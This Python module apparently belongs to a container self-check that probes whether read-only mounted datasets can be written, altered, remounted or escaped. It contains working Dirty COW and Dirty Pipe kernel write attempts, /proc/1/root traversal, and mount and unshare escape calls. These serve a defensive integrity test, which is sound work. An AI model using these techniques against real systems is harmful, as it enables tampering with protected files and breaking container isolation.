"""Attempts to change datasets, and to write where nothing may be written."""

from __future__ import annotations

from typing import Any

from hub.doctor.inside.trying import tried


def write_elsewhere(own: list[str], above: list[str]) -> Any:
    """Write a file into every folder that is not the container's own; of those ``above``, what is below is tried.

    Of the folders that could be written, the 50 next to the root are named and the others counted: an answer of
    thousands of names takes the engine so long to log that its end can be lost.
    """
    import os

    done, count = [], 0
    for folder, folders, _ in os.walk("/"):
        if folder == "/":
            folders.remove("proc")
        if folder in own:
            folders.clear()
        if folder in (*own, *above):
            continue
        count += 1
        name = os.path.join(folder, f"doctor-was-here-{os.getpid()}")
        try:
            os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
            os.unlink(name)
            done.append(folder)
        except OSError:
            continue
    done.sort(key=lambda folder: (folder.rstrip("/").count("/"), folder))
    done[50:] = [f"{len(done) - 50} folders more"] if len(done) > 50 else []
    # Read here, since not every kernel answers ``statvfs`` with a mount's flags.
    with open("/proc/self/mounts") as mounts:
        roots = [line.split()[3].split(",") for line in mounts if line.split()[1] == "/"]
    if "ro" not in roots[-1]:
        done.append("the whole image")
    return {"tried": [f"{count} folders", "the whole image"], "done": done}


def open_to_write(folder: str, file: str, other: str) -> Any:
    """Open a dataset's files for writing: by their names, and by all other ways that lead to them."""
    import os

    path, writing = f"{folder}/{file}", os.O_RDWR

    def through(name: str) -> None:
        os.close(os.open(name, writing))

    def by_descriptor() -> None:
        through(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}")

    def by_folder() -> None:
        os.close(os.open(other, writing, dir_fd=os.open(folder, os.O_PATH)))

    return tried(
        {
            "open": lambda: through(path),
            "append": lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)),
            "by descriptor": by_descriptor,
            "by folder": by_folder,
            "by own root": lambda: through(f"/proc/self/root{path}"),
            "by first process": lambda: through(f"/proc/1/root{path}"),
            "by first process's folder": lambda: through(f"/proc/1/cwd/../../../..{path}"),
        }
    )


def change_memory(folder: str, file: str) -> Any:
    """Change a dataset's file in the memory that the kernel keeps of it."""
    import ctypes
    import mmap
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    path = f"{folder}/{file}"
    reading = os.open(path, os.O_RDONLY)

    def shared() -> None:
        with mmap.mmap(os.open(path, os.O_RDWR), 0) as memory:
            memory[8] ^= 255

    def unprotected(descriptor: int) -> None:
        place = libc.mmap(None, 4096, 1, 1, descriptor, 0)
        if libc.mprotect(place, 4096, 3) != 0:
            raise OSError
        ctypes.memset(place + 16, 65, 1)

    def punched() -> None:
        if libc.fallocate(os.open(path, os.O_RDWR), 3, ctypes.c_long(0), ctypes.c_long(64)) != 0:
            raise OSError

    def by_own_memory() -> None:
        # CVE-2016-5195: what is written into a private copy is written into the file.
        place = libc.mmap(None, 4096, 1, 2, reading, 0)
        os.pwrite(os.open("/proc/self/mem", os.O_RDWR), b"memory", place + 40)
        if os.pread(reading, 6, 40) != b"memory":
            raise OSError

    def spliced() -> None:
        # CVE-2022-0847: what follows one spliced byte in a pipe is written into the file's page.
        inner, outer = os.pipe()
        while os.write(outer, bytes(4096)) and len(os.read(inner, 4096)) < 4096:
            pass
        if libc.splice(reading, ctypes.byref(ctypes.c_long(31)), outer, None, 1, 0) != 1:
            raise OSError
        os.write(outer, b"spliced")
        if os.pread(reading, 7, 32) != b"spliced":
            raise OSError

    return tried(
        {
            "shared memory": shared,
            "unprotected memory": lambda: unprotected(os.open(path, os.O_RDWR)),
            "unprotected reading": lambda: unprotected(reading),
            "punched hole": punched,
            "splice": spliced,
            "own memory": by_own_memory,
        }
    )


def change_files(folder: str, file: str, other: str, outside: list[str]) -> Any:
    """Change what a dataset's folder holds, what is said of its files, and give one a second name ``outside``."""
    import os
    import pathlib
    from functools import partial

    path, second, spare = f"{folder}/{file}", f"{folder}/{other}", f"{folder}/spare"

    def over_itself() -> None:
        os.symlink("/etc/hostname", spare)
        os.replace(spare, second)

    def name_in(elsewhere: str) -> None:
        os.link(path, f"{elsewhere}/hard-link")
        os.unlink(f"{elsewhere}/hard-link")

    def unnamed() -> None:
        descriptor = os.open(folder, os.O_TMPFILE | os.O_WRONLY)
        os.link(f"/proc/self/fd/{descriptor}", f"{folder}/unnamed", src_dir_fd=descriptor)

    return tried(
        {
            "create": lambda: pathlib.Path(f"{folder}/new").write_text("x"),
            "folder": lambda: os.mkdir(f"{folder}/sub"),
            "pipe": lambda: os.mkfifo(f"{folder}/pipe"),
            "socket": lambda: os.mknod(f"{folder}/socket", 0o140600),
            "unnamed file": unnamed,
            "chmod": lambda: os.chmod(path, 0o766),
            "chmod of the folder": lambda: os.chmod(folder, 0o777),
            "chown": lambda: os.chown(path, os.getuid(), os.getgid()),
            "touch": lambda: os.utime(path, (1, 1)),
            "attribute": lambda: os.setxattr(path, "user.a", b"b"),
            "hard link": lambda: os.link(path, f"{folder}/hard"),
            **{f"name in {elsewhere}": partial(name_in, elsewhere) for elsewhere in outside},
            "symbolic link": lambda: os.symlink("/etc", f"{folder}/soft"),
            "truncate": lambda: os.truncate(second, 3),
            "symbolic link over": over_itself,
            "rename": lambda: os.rename(path, f"{folder}/moved"),
            "unlink": lambda: os.unlink(second),
        }
    )


def mount_over(folder: str) -> Any:
    """Mount something over a dataset, mount it anew, move it or take it away, or get what may do so."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    bind, remount, move, recursive = 4096, 32, 8192, 16384
    place, own = folder.encode(), b"/tmp"
    calls = {
        "remount": (b"none", place, b"none", remount | bind),
        "remount of all": (b"none", b"/", b"none", remount | bind | recursive),
        "bind over": (own, place, b"none", bind),
        "bind away": (place, own, b"none", bind),
        "move": (place, own, b"none", move),
        "scratch over": (b"none", place, b"tmpfs", 0),
        "overlay": (b"none", place, b"overlay", 0),
    }
    options = {"overlay": b"lowerdir=/tmp:/usr"}
    done = [name for name, call in calls.items() if libc.mount(*call, options.get(name)) == 0]
    if libc.umount2(place, 2) == 0:
        done.append("unmount")
    if (child := os.fork()) == 0:
        os._exit(0 if libc.unshare(0x10000000 | 0x20000) == 0 else 1)
    if os.waitpid(child, 0)[1] == 0:
        done.append("own name spaces")
    return {"tried": [*calls, "unmount", "own name spaces"], "done": done}


def look_for_a_broken_seal(folder: str, seal: list[str]) -> Any:
    """Find a flag of a sealed mount that this one does not have."""
    import pathlib

    lines = pathlib.Path("/proc/self/mountinfo").read_text().splitlines()
    flags = next((line.split()[5].split(",") for line in lines if line.split()[4] == folder), [])
    return {"tried": seal, "done": [flag for flag in seal if flag not in flags]}


def compare_with_digest(folder: str, digest: str) -> Any:
    """Find a difference between what is mounted and what the snapshot's digest names."""
    import hashlib
    import json
    import os
    import pathlib

    manifest = pathlib.Path(f"{folder}/manifest.json").read_bytes()
    listed = {f["path"]: f["sha256"] for f in json.loads(manifest)["files"]}
    done = [] if hashlib.sha256(manifest).hexdigest() == digest else ["another manifest"]
    names = set(os.listdir(folder)) - {"manifest.json"}
    done += ["a file more or less"] if names != set(listed) else []
    there = {n: hashlib.sha256(pathlib.Path(f"{folder}/{n}").read_bytes()).hexdigest() for n in names & set(listed)}
    done += ["other bytes"] if any(listed[n] != digest for n, digest in there.items()) else []
    return {"tried": ["another manifest", "a file more or less", "other bytes"], "done": done}
